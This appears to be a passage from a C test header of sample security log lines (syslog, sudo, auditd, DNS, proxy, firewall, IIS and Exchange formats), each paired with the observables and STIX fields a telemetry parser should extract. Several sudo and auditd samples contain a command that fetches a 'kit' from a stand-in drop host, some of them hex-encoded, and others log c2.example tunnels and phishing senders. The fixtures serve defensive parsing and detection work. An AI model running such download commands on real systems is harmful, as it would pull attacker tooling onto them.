/* Records of the formats that no file of the shared data holds, each with what they say. Where a real program of Debian can write the
 * format, test/formats/ does that too. Addresses and names of the documents' examples are kept unless they are no addresses. */
#ifndef TEST_TELEMETRY_FORMAT_SAMPLES_H
#define TEST_TELEMETRY_FORMAT_SAMPLES_H
#include "telemetry.h"

#define FIELDS_EXPECTED 12
struct sample_field {
	const char *name, *value;
	enum observable type;
	const char *stix;
};
struct sample {
	enum format file, inner;
	const char *header, *record;
	const char *time; /* "~" before it: guessed */
	const char *host, *url;
	struct sample_field fields[FIELDS_EXPECTED];
};

#define SRC "network-traffic:src_ref.value"
#define DST "network-traffic:dst_ref.value"
#define SRC_PORT "network-traffic:src_port"
#define DST_PORT "network-traffic:dst_port"
#define NAME "domain-name:value"
#define URL "url:value"
#define AGENT "network-traffic:extensions.'http-request-ext'.request_header.'User-Agent'"
#define REFERER "network-traffic:extensions.'http-request-ext'.request_header.Referer"
#define REQUEST "network-traffic:extensions.'http-request-ext'.request_value"
#define LOGIN "user-account:account_login"
#define COMMAND "process:command_line"
#define SENDER "email-message:sender_ref.value"
#define RECIPIENT "email-message:to_refs[*].value"
#define ADDRESS OBSERVABLE_ADDRESS
#define HOST OBSERVABLE_HOST
#define NONE OBSERVABLE_NONE
#define IGNORED OBSERVABLE_IGNORED
#define FILE_NAME OBSERVABLE_FILE_NAME

static const struct sample samples[] = {
	/* RFC 3164 5.4, example 4: no program behind the host */
	{FORMAT_SYSLOG, FORMAT_TEXT, "", "<0>1990 Oct 22 10:52:01 TZ-6 scapegoat.dmz.example.org 10.1.2.3 sched[0]: That's All Folks!",
		"~1990-10-22T16:52:01Z", "scapegoat.dmz.example.org", "",
		{{"message", "10.1.2.3 sched[0]: That's All Folks!", NONE, NULL}}},
	/* RFC 3164 5.4, example 1 */
	{FORMAT_SYSLOG, FORMAT_TEXT, "", "<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8",
		"~2021-10-11T22:14:15Z", "mymachine", "",
		{{"message", "'su root' failed for lonvick on /dev/pts/8", NONE, NULL}, {"program", "su", NONE, NULL}}},
	/* RFC 5424 6.5, examples 1 and 3 */
	{FORMAT_SYSLOG, FORMAT_TEXT, "",
		"<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - \xef\xbb\xbf'su root' failed for lonvick on /dev/pts/8",
		"2003-10-11T22:14:15.003Z", "mymachine.example.com", "",
		{{"message", "'su root' failed for lonvick on /dev/pts/8", NONE, NULL}}},
	{FORMAT_SYSLOG, FORMAT_TEXT, "",
		"<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut=\"3\" "
		"eventSource=\"Appli\\\"cation\" eventID=\"1011\"] \xef\xbb\xbf"
		"An "
		"application event log entry of 192.0.2.7",
		"2003-10-11T22:14:15.003Z", "mymachine.example.com", "",
		{{"exampleSDID@32473.eventSource", "Appli\"cation", NONE, NULL},
			{"message", "An application event log entry of 192.0.2.7", NONE, NULL}}},
	/* RFC 5424 6.5, example 4: no message */
	{FORMAT_SYSLOG, FORMAT_TEXT, "",
		"<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut=\"3\"][examplePriority@32473 "
		"class=\"high\"]",
		"2003-10-11T22:14:15.003Z", "mymachine.example.com", "", {{"examplePriority@32473.class", "high", NONE, NULL}}},
	/* JSON of known kind in syslog, with and without the cookie of Lumberjack */
	{FORMAT_SYSLOG, FORMAT_EVE, "",
		"Oct 11 22:14:15 sensor suricata[7]: "
		"{\"timestamp\":\"2021-05-01T10:00:00.000001+0200\",\"event_type\":\"dns\",\"src_ip\":\"192.0.2.5\",\"dns\":{\"rrname\":"
		"\"evil.example\"}}",
		"2021-05-01T08:00:00.000001Z", "192.0.2.5", "",
		{{"src_ip", "192.0.2.5", ADDRESS, SRC}, {"dns.rrname", "evil.example", HOST, NAME}}},
	{FORMAT_SYSLOG, FORMAT_ECS, "",
		"<14>1 2021-05-01T10:00:00Z gw app - - - @cee: "
		"{\"@timestamp\":\"2021-05-01T09:59:59Z\",\"event\":{\"kind\":\"event\"},\"source\":{\"ip\":\"192.0.2.5\"}}",
		"2021-05-01T09:59:59Z", "gw", "", {{"source.ip", "192.0.2.5", ADDRESS, SRC}}},
	{FORMAT_SYSLOG, FORMAT_ZEEK_JSON, "",
		"<14>Oct 11 22:14:15 sensor zeek: "
		"{\"_path\":\"dns\",\"ts\":1521911720.5,\"uid\":\"C1\",\"id.orig_h\":\"192.0.2.5\",\"query\":\"evil.example\"}",
		"2018-03-24T17:15:20.500Z", "192.0.2.5", "", {{"query", "evil.example", HOST, NAME}}},
	/* OpenSSH 9.2, auth.c, monitor.c, packet.c */
	{FORMAT_SYSLOG, FORMAT_SSHD, "",
		"Oct 11 22:14:15 gw sshd[811]: Accepted publickey for ops from 192.0.2.9 port 50122 ssh2: ED25519 SHA256:m3rG7d2H0",
		"~2021-10-11T22:14:15Z", "gw", "",
		{{"src", "192.0.2.9", HOST, SRC}, {"sport", "50122", IGNORED, SRC_PORT}, {"user", "ops", NONE, LOGIN}}},
	{FORMAT_SYSLOG, FORMAT_SSHD, "",
		"2021-05-01T10:00:00.123456+02:00 gw sshd[902]: Connection closed by authenticating user root 2001:db8::7 port 40022 "
		"[preauth]",
		"2021-05-01T08:00:00.123456Z", "gw", "", {{"src", "2001:db8::7", HOST, SRC}, {"user", "root", NONE, LOGIN}}},
	/* sudoers(5), LOG FORMAT */
	{FORMAT_SYSLOG, FORMAT_SUDO, "",
		"Oct 11 22:14:15 gw sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/curl -O "
		"http://drop.example/kit",
		"~2021-10-11T22:14:15Z", "gw", "",
		{{"command", "/usr/bin/curl -O http://drop.example/kit", OBSERVABLE_COMMAND_LINE, COMMAND},
			{"cwd", "/home/alice", FILE_NAME, "process:cwd"}, {"user", "alice", NONE, LOGIN}}},
	/* Postfix: smtpd, qmgr, smtp, cleanup */
	{FORMAT_SYSLOG, FORMAT_POSTFIX, "", "Oct 11 22:14:15 mx postfix/smtpd[5]: connect from unknown[192.0.2.44]",
		"~2021-10-11T22:14:15Z", "mx", "", {{"src", "192.0.2.44", HOST, SRC}}},
	{FORMAT_SYSLOG, FORMAT_POSTFIX, "",
		"Oct 11 22:14:15 mx postfix/qmgr[5]: 4F9D2: from=<a@phish.example>, size=311, nrcpt=1 (queue active)",
		"~2021-10-11T22:14:15Z", "mx", "", {{"sender", "a@phish.example", OBSERVABLE_EMAIL, SENDER}}},
	{FORMAT_SYSLOG, FORMAT_POSTFIX, "",
		"Oct 11 22:14:15 mx postfix/smtp[5]: 4F9D2: to=<b@ministry.example>, relay=mx1.relay.example[192.0.2.25]:25, delay=0.8, "
		"status=sent (250 ok)",
		"~2021-10-11T22:14:15Z", "mx", "",
		{{"recipient", "b@ministry.example", OBSERVABLE_EMAIL, RECIPIENT}, {"relay", "mx1.relay.example", HOST, DST},
			{"dst", "192.0.2.25", HOST, DST}}},
	{FORMAT_SYSLOG, FORMAT_POSTFIX, "",
		"Oct 11 22:14:15 mx postfix/smtpd[5]: NOQUEUE: reject: RCPT from bad.example[192.0.2.44]: 554 5.7.1 <x>: denied; "
		"from=<a@phish.example> to=<b@ministry.example> proto=ESMTP helo=<helo.example>",
		"~2021-10-11T22:14:15Z", "mx", "",
		{{"src", "192.0.2.44", HOST, SRC}, {"peer_name", "bad.example", HOST, NULL}, {"helo", "helo.example", HOST, NULL},
			{"sender", "a@phish.example", OBSERVABLE_EMAIL, SENDER}}},
	/* Ubuntu's documentation of UFW (netfilter's LOG target), with addresses that are some */
	{FORMAT_SYSLOG, FORMAT_NETFILTER, "",
		"Oct 11 22:14:15 gw kernel: [ 1.25] [UFW BLOCK] IN=eth0 OUT= MAC=00:16:3e:aa:bb:cc:00:16:3e:dd:ee:ff:08:00 SRC=203.0.113.8 "
		"DST=192.0.2.4 LEN=103 TOS=0x00 PREC=0x00 TTL=52 ID=0 DF PROTO=UDP "
		"SPT=53 DPT=36427 LEN=83",
		"~2021-10-11T22:14:15Z", "gw", "",
		{{"SRC", "203.0.113.8", ADDRESS, SRC}, {"DST", "192.0.2.4", ADDRESS, DST}, {"DPT", "36427", IGNORED, DST_PORT}}},
	/* Netgate, Raw Filter Log Format: IPv4 TCP, IPv6 UDP */
	{FORMAT_SYSLOG, FORMAT_FILTERLOG, "",
		"Oct 11 22:14:15 fw filterlog[5]: "
		"5,,,1000000103,igb0,match,block,in,4,0x0,,64,12345,0,DF,6,tcp,60,203.0.113.8,192.0.2.4,54321,22,0,S,1000,,64240,,mss",
		"~2021-10-11T22:14:15Z", "fw", "",
		{{"src", "203.0.113.8", HOST, SRC}, {"dst", "192.0.2.4", HOST, DST}, {"dport", "22", IGNORED, DST_PORT}}},
	{FORMAT_SYSLOG, FORMAT_FILTERLOG, "",
		"Oct 11 22:14:15 fw filterlog[5]: "
		"5,,,1000000103,igb0,match,pass,out,6,0x00,0x00000,64,udp,17,40,2001:db8::8,2001:db8::4,546,547,40",
		"~2021-10-11T22:14:15Z", "fw", "", {{"src", "2001:db8::8", HOST, SRC}, {"dst", "2001:db8::4", HOST, DST}}},
	/* dnsmasq 2.90; DHCP as dnsmasq-dhcp writes it */
	{FORMAT_SYSLOG, FORMAT_DNSMASQ, "", "Oct 11 22:14:15 gw dnsmasq[7]: reply www.evil.example is 203.0.113.66",
		"~2021-10-11T22:14:15Z", "gw", "", {{"query", "www.evil.example", HOST, NAME}, {"answer", "203.0.113.66", HOST, NULL}}},
	{FORMAT_SYSLOG, FORMAT_DNSMASQ, "", "Oct 11 22:14:15 gw dnsmasq-dhcp[7]: DHCPACK(eth0) 192.0.2.50 00:16:3e:aa:bb:cc laptop7",
		"~2021-10-11T22:14:15Z", "gw", "",
		{{"address", "192.0.2.50", ADDRESS, NULL}, {"mac", "00:16:3e:aa:bb:cc", NONE, "mac-addr:value"},
			{"name", "laptop7", HOST, NULL}}},
	/* Apache 2.4, log formats common, combined, vhost_combined */
	{FORMAT_ACCESS, FORMAT_TEXT, "", "127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326",
		"2000-10-10T20:55:36Z", "", "",
		{{"client", "127.0.0.1", HOST, SRC}, {"path", "/apache_pb.gif", OBSERVABLE_URL_PATH, REQUEST},
			{"user", "frank", NONE, LOGIN}}},
	{FORMAT_ACCESS, FORMAT_TEXT, "",
		"192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /a?u=http://in.example/x HTTP/1.0\" 200 2326 "
		"\"http://www.example.com/start.html\" \"Mozilla/4.08 [en] (Win98; \\\"I\\\" ;Nav)\"",
		"2000-10-10T20:55:36Z", "", "",
		{{"referer", "http://www.example.com/start.html", OBSERVABLE_URL, REFERER},
			{"agent", "Mozilla/4.08 [en] (Win98; \"I\" ;Nav)", OBSERVABLE_USER_AGENT, AGENT}}},
	{FORMAT_ACCESS, FORMAT_TEXT, "",
		"shop.example:8080 2001:db8::7 - - [10/Oct/2000:13:55:36 -0700] \"POST /gate.php?id=7 HTTP/1.1\" 200 - \"-\" \"curl/7.88\" "
		"rt=0.1",
		"2000-10-10T20:55:36Z", "", "shop.example:8080 /gate.php?id=7",
		{{"vhost", "shop.example", HOST, NULL}, {"client", "2001:db8::7", HOST, SRC}, {"rest", "rt=0.1", NONE, NULL}}},
	/* a proxy's tunnel: Apache 2.4's mod_proxy_connect; Squid's logformat combined (squid.conf.documented) */
	{FORMAT_ACCESS, FORMAT_TEXT, "", "192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"CONNECT c2.example:443 HTTP/1.1\" 200 2326",
		"2000-10-10T20:55:36Z", "", "", {{"client", "192.0.2.7", HOST, SRC}, {"target", "c2.example:443", HOST, DST}}},
	{FORMAT_ACCESS, FORMAT_TEXT, "",
		"192.0.2.7 - alice [10/Oct/2000:13:55:36 -0700] \"CONNECT 203.0.113.66:443 HTTP/1.1\" 200 2326 \"-\" \"curl/7.88.1\" "
		"TCP_TUNNEL:HIER_DIRECT",
		"2000-10-10T20:55:36Z", "", "",
		{{"target", "203.0.113.66:443", HOST, DST}, {"agent", "curl/7.88.1", OBSERVABLE_USER_AGENT, AGENT}}},
	{FORMAT_ACCESS, FORMAT_TEXT, "",
		"proxy.example:3128 192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"CONNECT [2001:db8::66]:443 HTTP/1.1\" 200 0 \"-\" \"x\"",
		"2000-10-10T20:55:36Z", "", "", {{"target", "[2001:db8::66]:443", HOST, DST}}},
	/* nginx 1.22, Apache 2.4: error logs */
	{FORMAT_WEB_ERROR, FORMAT_TEXT, "",
		"2021/05/01 10:00:00 [error] 12#12: *5 open() \"/srv/gate.php\" failed (2: No such file or directory), client: "
		"203.0.113.9, server: web1.example, request: \"GET /gate.php?id=7 HTTP/1.1\", "
		"host: \"shop.example:8080\", referrer: \"http://ref.example/x\"",
		"~2021-05-01T10:00:00Z", "", "shop.example:8080 /gate.php?id=7",
		{{"client", "203.0.113.9", HOST, SRC}, {"vhost", "shop.example:8080", HOST, NULL},
			{"referer", "http://ref.example/x", OBSERVABLE_URL, REFERER}}},
	{FORMAT_WEB_ERROR, FORMAT_TEXT, "",
		"[Wed Oct 11 14:32:52.123456 2000] [core:error] [pid 35708:tid 4328636416] [client 203.0.113.9:4711] File does not exist: "
		"/srv/gate.php, referer: http://ref.example/x",
		"~2000-10-11T14:32:52.123456Z", "", "",
		{{"client", "203.0.113.9:4711", HOST, SRC}, {"text", "File does not exist: /srv/gate.php", NONE, NULL},
			{"referer", "http://ref.example/x", OBSERVABLE_URL, REFERER}}},
	/* Squid 5.7 */
	{FORMAT_SQUID, FORMAT_TEXT, "",
		"1286536309.586    921 192.0.2.68 TCP_MISS/200 507 POST http://rcv.example/api?x=1 - DIRECT/203.0.113.135 application/xml",
		"2010-10-08T11:11:49.586Z", "192.0.2.68", "",
		{{"asker", "192.0.2.68", HOST, SRC}, {"url", "http://rcv.example/api?x=1", OBSERVABLE_URL, URL},
			{"peer", "203.0.113.135", HOST, DST}}},
	{FORMAT_SQUID, FORMAT_TEXT, "",
		"1286536309.586      9 192.0.2.68 TCP_TUNNEL/200 507 CONNECT c2.example:443 alice HIER_DIRECT/203.0.113.135 -",
		"2010-10-08T11:11:49.586Z", "192.0.2.68", "", {{"target", "c2.example:443", HOST, DST}, {"user", "alice", NONE, LOGIN}}},
	/* Implementing ArcSight CEF: the header's and the escapes' examples */
	{FORMAT_SYSLOG, FORMAT_CEF, "",
		"Sep 19 08:26:10 host CEF:0|Security|threatmanager|1.0|100|worm successfully stopped|10|src=10.0.0.1 dst=2.1.2.2 spt=1232",
		"~2021-09-19T08:26:10Z", "host", "",
		{{"src", "10.0.0.1", ADDRESS, SRC}, {"dst", "2.1.2.2", ADDRESS, DST}, {"spt", "1232", IGNORED, SRC_PORT},
			{"name", "worm successfully stopped", NONE, NULL}}},
	{FORMAT_CEF, FORMAT_TEXT, "",
		"CEF:0|security|threatmanager|1.0|100|detected a \\| in message|10|src=10.0.0.1 act=blocked a | dst=1.1.1.1 "
		"request=http://a.example/q?x\\=1 fname=a b.exe fileHash=d41d8cd98f00b204e9800998ecf8427e "
		"rt=1286536309586 requestClientApplication=Mozilla/5.0 (X11)",
		"2010-10-08T11:11:49.586Z", "", "",
		{{"name", "detected a | in message", NONE, NULL}, {"act", "blocked a |", NONE, NULL}, {"dst", "1.1.1.1", ADDRESS, DST},
			{"request", "http://a.example/q?x=1", OBSERVABLE_URL, URL}, {"fname", "a b.exe", FILE_NAME, "file:name"},
			{"fileHash", "d41d8cd98f00b204e9800998ecf8427e", OBSERVABLE_MD5, "file:hashes.MD5"},
			{"requestClientApplication", "Mozilla/5.0 (X11)", OBSERVABLE_USER_AGENT, AGENT}}},
	/* QRadar LEEF guide: examples of 1.0 and 2.0 */
	{FORMAT_SYSLOG, FORMAT_LEEF, "",
		"Jan 18 11:07:53 192.168.1.1 "
		"LEEF:1.0|QRadar|QRM|1.0|NEW_PORT_DISCOVERD|src=172.5.6.67\tdst=172.50.123.1\tsev=5\tcat=anomaly\tmsg=there are spaces in "
		"this message",
		"~2021-01-18T11:07:53Z", "192.168.1.1", "",
		{{"src", "172.5.6.67", ADDRESS, SRC}, {"dst", "172.50.123.1", ADDRESS, DST},
			{"msg", "there are spaces in this message", NONE, NULL}}},
	{FORMAT_LEEF, FORMAT_TEXT, "",
		"LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=192.0.2.0^dst=172.50.123.1^sev=5^cat=anomaly^srcPort=81^dstPort=21^usrName=joe."
		"black^devTime=1286536309586",
		"2010-10-08T11:11:49.586Z", "", "",
		{{"src", "192.0.2.0", ADDRESS, SRC}, {"dstPort", "21", IGNORED, DST_PORT}, {"usrName", "joe.black", NONE, LOGIN}}},
	{FORMAT_LEEF, FORMAT_TEXT, "", "LEEF:2.0|Vendor|Product|1.0|41|x7C|src=192.0.2.0|url=http://a.example/x", NULL, "", "",
		{{"src", "192.0.2.0", ADDRESS, SRC}, {"url", "http://a.example/x", OBSERVABLE_URL, URL}}},
	/* BIND 9.18, Unbound 1.17, PowerDNS 4.8 */
	{FORMAT_BIND, FORMAT_TEXT, "",
		"24-Nov-2021 12:00:00.123 queries: info: client @0x7fc2b9c1b098 192.0.2.5#59387 (node7.evil.example): query: "
		"node7.evil.example IN A + (192.0.2.53)",
		"~2021-11-24T12:00:00.123Z", "192.0.2.5", "",
		{{"asker", "192.0.2.5", HOST, SRC}, {"query", "node7.evil.example", HOST, NAME}, {"server", "192.0.2.53", HOST, DST}}},
	{FORMAT_BIND, FORMAT_TEXT, "",
		"client @0x7fc2b9c1b098 2001:db8::5#59387 (evil.example): view inside: query: evil.example IN AAAA +E(0)K (2001:db8::53)",
		NULL, "2001:db8::5", "", {{"query", "evil.example", HOST, NAME}}},
	{FORMAT_SYSLOG, FORMAT_BIND, "",
		"Oct 11 22:14:15 ns1 named[9]: client @0x7fc2b9c1b098 192.0.2.5#59387 (evil.example): query failed (REFUSED) for "
		"evil.example/IN/A at query.c:5708",
		"~2021-10-11T22:14:15Z", "192.0.2.5", "", {{"query", "evil.example", HOST, NAME}}},
	/* older BIND: no name behind the client, no flags */
	{FORMAT_BIND, FORMAT_TEXT, "",
		"02-May-2022 10:11:12.123 client 203.0.113.9#53124: view internal: query: evil.example IN A + (10.0.0.53)",
		"~2022-05-02T10:11:12.123Z", "203.0.113.9", "",
		{{"asker", "203.0.113.9", HOST, SRC}, {"query", "evil.example", HOST, NAME}, {"server", "10.0.0.53", HOST, DST}}},
	{FORMAT_BIND, FORMAT_TEXT, "", "02-May-2022 10:11:12.123 queries: client 203.0.113.9#53124: query: evil.example IN A",
		"~2022-05-02T10:11:12.123Z", "203.0.113.9", "", {{"query", "evil.example", HOST, NAME}}},
	{FORMAT_BIND, FORMAT_TEXT, "", "queries: client 203.0.113.9#53124: query: evil.example IN A", NULL, "203.0.113.9", "",
		{{"query", "evil.example", HOST, NAME}}},
	{FORMAT_BIND, FORMAT_TEXT, "", "May  2 10:11:12 client 203.0.113.9#53124: query: evil.example IN A +", "~2021-05-02T10:11:12Z",
		"203.0.113.9", "", {{"query", "evil.example", HOST, NAME}}},
	{FORMAT_SYSLOG, FORMAT_BIND, "",
		"Oct 11 22:14:15 ns1 named[9]: client 203.0.113.9#53124: view internal: query: evil.example IN A +",
		"~2021-10-11T22:14:15Z", "203.0.113.9", "", {{"query", "evil.example", HOST, NAME}}},
	{FORMAT_UNBOUND, FORMAT_TEXT, "", "[1286536309] unbound[8227:0] info: 192.0.2.5 www.evil.example. A IN NOERROR 0.000000 1 50",
		"2010-10-08T11:11:49Z", "192.0.2.5", "", {{"query", "www.evil.example.", HOST, NAME}, {"asker", "192.0.2.5", HOST, SRC}}},
	{FORMAT_SYSLOG, FORMAT_UNBOUND, "", "Oct 11 22:14:15 ns1 unbound: [8227:0] info: 192.0.2.5 www.evil.example. A IN",
		"~2021-10-11T22:14:15Z", "192.0.2.5", "", {{"query", "www.evil.example.", HOST, NAME}}},
	{FORMAT_SYSLOG, FORMAT_POWERDNS, "",
		"Oct 11 22:14:15 ns1 pdns_server[7]: Remote 192.0.2.5 wants 'www.evil.example|A', do = 0, bufsize = 512: packetcache HIT",
		"~2021-10-11T22:14:15Z", "192.0.2.5", "", {{"query", "www.evil.example", HOST, NAME}}},
	/* RHEL Security Guide, understanding audit log files */
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=2 success=no exit=-13 a0=7fffd19c5592 a1=10 ppid=2686 "
		"pid=3538 auid=1000 tty=pts0 ses=1 comm=\"cat\" exe=\"/bin/cat\" key=\"sshd_config\"",
		"2013-03-28T14:36:03.243Z", "", "", {{"exe", "/bin/cat", FILE_NAME, "process:image_ref.name"}, {"a1", "10", NONE, NULL}}},
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"node=web1 type=PROCTITLE msg=audit(1364481363.243:24287): proctitle=636174002F6574632F7373682F737368645F636F6E666967",
		"2013-03-28T14:36:03.243Z", "web1", "", {{"proctitle", "cat /etc/ssh/sshd_config", OBSERVABLE_COMMAND_LINE, COMMAND}}},
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"type=USER_AUTH msg=audit(1364475353.159:24270): user pid=3280 uid=1000 msg='op=PAM:authentication acct=\"root\" "
		"exe=\"/bin/su\" hostname=jump.example addr=192.0.2.9 terminal=pts/0 res=failed'",
		"2013-03-28T12:55:53.159Z", "", "",
		{{"addr", "192.0.2.9", ADDRESS, SRC}, {"hostname", "jump.example", HOST, NULL}, {"acct", "root", NONE, LOGIN},
			{"res", "failed", NONE, NULL}}},
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"type=EXECVE msg=audit(1364481363.243:24287): argc=3 a0=\"curl\" a1=\"-O\" "
		"a2=687474703A2F2F64726F702E6578616D706C652F6B6974",
		"2013-03-28T14:36:03.243Z", "", "",
		{{"command_line", "curl -O http://drop.example/kit", OBSERVABLE_COMMAND_LINE, COMMAND}}},
	{FORMAT_AUDIT, FORMAT_TEXT, "", "type=SOCKADDR msg=audit(1364481363.243:24287): saddr=02000050CB0071420000000000000000",
		"2013-03-28T14:36:03.243Z", "", "", {{"saddr", "203.0.113.66:80", HOST, DST}}},
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"type=SOCKADDR msg=audit(1364481363.243:24287): saddr=0A0001BB0000000020010DB800000000000000000000006600000000",
		"2013-03-28T14:36:03.243Z", "", "", {{"saddr", "[2001:db8::66]:443", HOST, DST}}},
	/* ausearch -i of audit 3.0.9 on the records above, in the C locale, and in en_US (test/formats/audit_test.sh) */
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"type=SOCKADDR msg=audit(03/28/13 14:36:03.243:24287) : saddr={ saddr_fam=inet laddr=203.0.113.66 lport=80 } ",
		"~2013-03-28T14:36:03.243Z", "", "", {{"laddr", "203.0.113.66", ADDRESS, DST}, {"lport", "80", IGNORED, DST_PORT}}},
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"type=PROCTITLE msg=audit(03/28/2013 14:36:03.243:24287) : proctitle=curl -O http://drop.example/kit ",
		"~2013-03-28T14:36:03.243Z", "", "", {{"proctitle", "curl -O http://drop.example/kit", OBSERVABLE_COMMAND_LINE, COMMAND}}},
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"node=web1 type=EXECVE msg=audit(11/24/2026 10:11:12.123:456) : argc=3 a0=curl a1=-O a2=http://drop.example/kit ",
		"~2026-11-24T10:11:12.123Z", "web1", "",
		{{"command_line", "curl -O http://drop.example/kit", OBSERVABLE_COMMAND_LINE, COMMAND}}},
	{FORMAT_AUDIT, FORMAT_TEXT, "",
		"type=USER_AUTH msg=audit(03/28/13 12:55:53.159:24270) : pid=3280 uid=bob auid=bob ses=1 msg='op=PAM:authentication "
		"acct=root exe=/bin/su hostname=jump.example addr=192.0.2.9 terminal=pts/0 res=failed' ",
		"~2013-03-28T12:55:53.159Z", "", "",
		{{"addr", "192.0.2.9", ADDRESS, SRC}, {"hostname", "jump.example", HOST, NULL}, {"res", "failed", NONE, NULL}}},
	/* Fortinet, FortiOS Log Reference: sample of a traffic log */
	{FORMAT_PAIRS, FORMAT_TEXT, "",
		"date=2019-05-10 time=11:37:47 logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"vdom1\" "
		"eventtime=1557513467369913239 srcip=10.1.100.11 srcport=58012 srcintf=\"port12\" "
		"dstip=23.59.154.35 dstport=80 dstname=\"cdn.example\" action=\"close\" sentbyte=3652 user=\"bob\"",
		"2019-05-10T18:37:47.369913Z", "", "",
		{{"srcip", "10.1.100.11", ADDRESS, SRC}, {"dstip", "23.59.154.35", ADDRESS, DST}, {"dstport", "80", IGNORED, DST_PORT},
			{"dstname", "cdn.example", HOST, DST}}},
	/* FortiOS Log Reference, web filter: hostname is the site; as syslog, the priority directly before */
	{FORMAT_PAIRS, FORMAT_TEXT, "",
		"date=2019-05-10 time=11:37:47 devname=\"fw1\" logid=\"0316013056\" type=\"utm\" subtype=\"webfilter\" srcip=10.1.100.11 "
		"dstip=203.0.113.35 hostname=\"www.evil.example\" url=\"/gate.php?id=7\"",
		"~2019-05-10T11:37:47Z", "fw1", "www.evil.example /gate.php?id=7",
		{{"hostname", "www.evil.example", HOST, NULL}, {"url", "/gate.php?id=7", OBSERVABLE_URL_PATH, REQUEST}}},
	{FORMAT_SYSLOG, FORMAT_PAIRS, "",
		"<189>date=2019-05-10 time=11:37:47 devname=\"fw1\" logid=\"0316013056\" srcip=10.1.100.11 dstip=203.0.113.35 "
		"hostname=\"www.evil.example\" url=\"/gate.php\"",
		"~2019-05-10T11:37:47Z", "fw1", "www.evil.example /gate.php",
		{{"hostname", "www.evil.example", HOST, NULL}, {"dstip", "203.0.113.35", ADDRESS, DST}}},
	/* FortiOS before 6.0 tells the zone in tz and no eventtime */
	{FORMAT_PAIRS, FORMAT_TEXT, "",
		"date=2019-05-10 time=11:37:47 devname=\"fw1\" logid=\"0000000013\" tz=\"-0500\" srcip=10.1.100.11 dstip=203.0.113.35",
		"2019-05-10T16:37:47Z", "fw1", "", {{"srcip", "10.1.100.11", ADDRESS, SRC}}},
	{FORMAT_PAIRS, FORMAT_TEXT, "", "date=2019-05-10 time=11:37:47 devname=fw1 tz=CEST srcip=10.1.100.11 dstip=203.0.113.35",
		"~2019-05-10T11:37:47Z", "fw1", "", {{"srcip", "10.1.100.11", ADDRESS, SRC}}},
	/* other programs' hostname is the machine */
	{FORMAT_PAIRS, FORMAT_TEXT, "", "timestamp=2019-05-10T11:37:47Z hostname=web1 src_ip=192.0.2.7", "2019-05-10T11:37:47Z", "web1", "",
		{{"src_ip", "192.0.2.7", ADDRESS, SRC}}},
	/* Microsoft, IIS log file formats: W3C example; and with the fields of IIS 10 */
	{FORMAT_W3C, FORMAT_TEXT,
		"#Software: Internet Information Services 6.0\n#Version: 1.0\n#Date: 2001-05-02 17:42:15\n#Fields: time c-ip cs-method "
		"cs-uri-stem sc-status cs-version\n",
		"17:42:15 172.16.255.255 GET /default.htm 200 HTTP/1.0", "2001-05-02T17:42:15Z", "", "",
		{{"c-ip", "172.16.255.255", ADDRESS, SRC}, {"cs-uri-stem", "/default.htm", OBSERVABLE_URL_PATH, REQUEST}}},
	{FORMAT_W3C, FORMAT_TEXT,
		"#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query "
		"s-port cs-username c-ip cs(User-Agent) cs(Referer) cs-host sc-status\n",
		"2021-05-01 10:00:00 192.0.2.80 POST /ecp/y.js a=1&b=2 8443 - 203.0.113.9 Mozilla/5.0+(Windows+NT+10.0) "
		"http://ref.example/ mail.ministry.example 200",
		"2021-05-01T10:00:00Z", "192.0.2.80", "mail.ministry.example:8443 /ecp/y.js?a=1&b=2",
		{{"c-ip", "203.0.113.9", ADDRESS, SRC}, {"s-ip", "192.0.2.80", ADDRESS, DST},
			{"cs(User-Agent)", "Mozilla/5.0 (Windows NT 10.0)", OBSERVABLE_USER_AGENT, AGENT},
			{"cs(Referer)", "http://ref.example/", OBSERVABLE_URL, REFERER}, {"cs-host", "mail.ministry.example", HOST, NULL}}},
	/* Microsoft, message tracking: the fields in their order */
	{FORMAT_EXCHANGE, FORMAT_TEXT,
		"#Software: Microsoft Exchange Server\n#Version: 15.02.0986.005\n#Log-type: Message Tracking Log\n#Date: "
		"2021-05-01T00:00:00.000Z\n"
		"#Fields: "
		"date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,internal-"
		"message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,"
		"recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path\n",
		"2021-05-01T10:00:00.250Z,203.0.113.9,mx.phish.example,192.0.2.25,EX01,08D9;2021,EX01\\Default,SMTP,RECEIVE,4711,<id7@"
		"phish.example>,0c4a,a@ministry.example;b@ministry.example,,4321,2,,,\"Invoice, \"\"urgent\"\"\","
		"boss@phish.example,boss@phish.example",
		"2021-05-01T10:00:00.250Z", "EX01", "",
		{{"client-ip", "203.0.113.9", ADDRESS, SRC}, {"recipient-address", "b@ministry.example", OBSERVABLE_EMAIL, RECIPIENT},
			{"message-subject", "Invoice, \"urgent\"", NONE, "email-message:subject"},
			{"sender-address", "boss@phish.example", OBSERVABLE_EMAIL, SENDER},
			{"client-hostname", "mx.phish.example", HOST, SRC}}},
	/* RFC 4180 with names of the field table */
